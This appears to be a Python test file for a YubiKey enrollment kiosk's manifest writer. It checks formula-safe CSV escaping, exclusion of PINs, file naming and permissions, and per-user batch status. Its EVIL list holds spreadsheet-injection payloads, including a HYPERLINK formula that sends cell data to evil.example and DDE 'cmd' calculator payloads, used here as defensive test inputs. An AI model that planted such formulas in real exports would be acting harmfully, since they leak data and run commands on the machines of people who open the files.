"""The shipping manifest: formula-safe CSV, JSON, fixed columns, never a PIN."""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

from kiosk.enroll.manifest import COLUMNS, ManifestRow, batch_rows, csv_safe, write_manifest
from kiosk.model.queue import QueueRow, Status
from kiosk.model.steps import Step
from kiosk.store.journal import Enrollment

EVIL = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


def _row(serial: str, upn: str, **kw: str) -> ManifestRow:
    base = {
        "name": "Ada Lovelace",
        "key_label": "YubiKey 5 NFC 12345678",
        "aaguid": "cb69481e-8ff7-4039-93ec-0a2729a154a8",
        "model": "YubiKey 5 NFC",
        "time": "2026-11-22T01:00:00Z",
        "status": "done",
    }
    base.update(kw)
    return ManifestRow(serial=serial, upn=upn, **base)


def test_formula_cells_are_neutralised_when_read_back(tmp_path: Path) -> None:
    rows = [_row(str(i), f"user{i}@contoso.com", name=evil) for i, evil in enumerate(EVIL)]
    csv_path, json_path = write_manifest(rows, tmp_path, "20261122T010000Z")
    with csv_path.open(encoding="utf-8-sig", newline="") as fh:
        read = list(csv.reader(fh))
    assert tuple(read[0]) == COLUMNS
    names = [r[COLUMNS.index("name")] for r in read[1:]]
    for evil, cell in zip(EVIL, names, strict=True):
        assert cell == "'" + evil  # shown as text, never evaluated; content kept
    # JSON is not a spreadsheet: values stay exactly as they are.
    doc = json.loads(json_path.read_text())
    assert [r["name"] for r in doc["rows"]] == EVIL
    assert doc["count"] == len(EVIL) and doc["columns"] == list(COLUMNS)


def test_ordinary_cells_are_untouched() -> None:
    for value in ("alice@contoso.com", "12345678", "YubiKey 5 NFC", "", "a=b", "2026-11-22"):
        assert csv_safe(value) == value


def test_only_the_manifest_columns_are_written_never_a_pin(tmp_path: Path) -> None:
    row = {"serial": "1", "upn": "a@contoso.com", "status": "done", "pin": "58294713"}
    csv_path, json_path = write_manifest([row], tmp_path, "x")
    assert "58294713" not in csv_path.read_text(encoding="utf-8-sig")
    assert "58294713" not in json_path.read_text()
    assert json.loads(json_path.read_text())["rows"][0]["upn"] == "a@contoso.com"


def test_files_are_named_by_stamp_and_written_whole(tmp_path: Path) -> None:
    paths = write_manifest([_row("1", "a@contoso.com")], tmp_path / "m", "20261122T010000Z")
    assert [p.name for p in paths] == [
        "manifest-20261122T010000Z.csv",
        "manifest-20261122T010000Z.json",
    ]
    assert sorted(p.name for p in (tmp_path / "m").iterdir()) == sorted(p.name for p in paths)
    assert paths[0].stat().st_mode & 0o007 == 0


def _key(enrollment_id: int, entry_id: int, upn: str, serial: str) -> Enrollment:
    return Enrollment(
        id=enrollment_id, entry_id=entry_id, user_id=f"id-{entry_id}", upn=upn,
        step=Step.DONE, state="done", serial=serial,
        aaguid="a25342c0-3cdc-4414-8e46-f4807fca511c", model="YubiKey 5 NFC", firmware="5.7.1",
        credential_id="AAEC", client_data_json=None, attestation_object=None,
        attestation_format="packed", challenge_expires=None,
        display_name=f"YubiKey 5 NFC {serial}", method_id="m", escrow_file=None,
        pin_policy=None, operator="Dana", reason="", started="t0", updated="t1",
    )


def _user(entry_id: int, upn: str, name: str, status: Status, reason: str = "") -> QueueRow:
    return QueueRow(entry_id=entry_id, upn=upn, display_name=name, status=status,
                    keys_wanted=1, keys_done=0, reason=reason, updated="t2")


def test_the_manifest_covers_every_user_of_the_batch_with_their_state() -> None:
    users = [
        _user(1, "ada@contoso.com", "Ada Lovelace", "done"),
        _user(2, "alan@contoso.com", "Alan Turing", "skipped", "skipped by operator: not here"),
        _user(3, "grace@contoso.com", "Grace Hopper", "pending"),  # has a key, backup to come
        _user(4, "kurt@contoso.com", "Kurt Gödel", "failed", "Key refused"),
    ]
    keys = [_key(7, 3, "grace@contoso.com", "41000003"), _key(5, 1, "ada@contoso.com", "41000001"),
            _key(6, 1, "ada@contoso.com", "41000002")]
    rows = batch_rows(users, keys)
    assert [(r.upn, r.status, r.serial) for r in rows] == [
        ("ada@contoso.com", "enrolled", "41000001"),
        ("ada@contoso.com", "enrolled", "41000002"),
        ("alan@contoso.com", "skipped", ""),
        ("grace@contoso.com", "enrolled", "41000003"),
        ("grace@contoso.com", "pending", ""),
        ("kurt@contoso.com", "failed", ""),
    ]
    assert rows[0].name == "Ada Lovelace" and rows[0].key_label == "YubiKey 5 NFC 41000001"
    assert rows[2].reason == "skipped by operator: not here" and rows[2].name == "Alan Turing"
    assert rows[0].reference.startswith("K000005-")


def test_manifests_are_readable_by_the_files_group_under_the_services_umask(
    tmp_path: Path,
) -> None:
    """The service runs with UMask=0077; the outbox's group (admins, no root) must still read
    the manifest: the files get 0640 as asked, not 0600."""
    old = os.umask(0o077)
    try:
        paths = write_manifest([_row("1", "a@contoso.com")], tmp_path / "outbox", "x")
    finally:
        os.umask(old)
    assert [p.stat().st_mode & 0o777 for p in paths] == [0o640, 0o640]
